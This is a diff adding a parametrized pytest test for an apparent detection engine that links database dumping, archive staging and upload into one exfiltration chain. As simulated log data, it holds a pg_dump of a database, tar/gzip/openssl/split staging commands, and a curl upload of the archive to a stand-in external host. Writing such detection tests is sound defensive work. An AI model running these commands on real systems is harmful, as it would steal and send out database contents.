@@ -308,3 +308,20 @@ def test_baseline_observe_is_judge_then_learn() -> None:
         assert B.observe(a, settings, *args) == B.judge(b, settings, *args)
         B.learn(b, *args)
     assert a == b
+
+
+@pytest.mark.parametrize(
+    "staging",
+    ["tar czf /tmp/o.tgz /tmp/x.sql", "tar -czf /tmp/o.tgz /tmp/x.sql", "gzip /tmp/x.sql", "openssl enc -in /tmp/x.sql -out /tmp/o.tgz",
+     "split -b 10m /tmp/x.sql /tmp/o.tgz"],
+)
+def test_staged_dump_outputs_join_the_chain(staging: str) -> None:
+    log = Log()
+    log.db_exec("pg-1", T, "mallory", 1004, "pg_dump -f /tmp/x.sql db", "/usr/bin/pg_dump", 10, "/usr/bin/bash", "-bash")
+    log.dump_file("pg-1", T + 5, "/tmp/x.sql", "mallory", 1004)
+    log.transfer("pg-1", T + 20, "mallory", 1004, staging, "/usr/bin/" + staging.split()[0], 20)
+    upload = "/tmp/x.sql.gz" if staging.startswith("gzip") else "/tmp/o.tgz"
+    # uploaded by someone with no session: only the path ties it to the chain
+    log.transfer("pg-1", T + 40, "daemon", 1, f"curl -T {upload} https://e.example.com", "/usr/bin/curl", 30, session=False)
+    (f,) = engine().process(HostState("pg-1"), rows_of(log))[1]
+    assert f.stages == ["access", "dump", "egress"] and "dump-staged:+5" in f.reasons and "T1560" in f.techniques
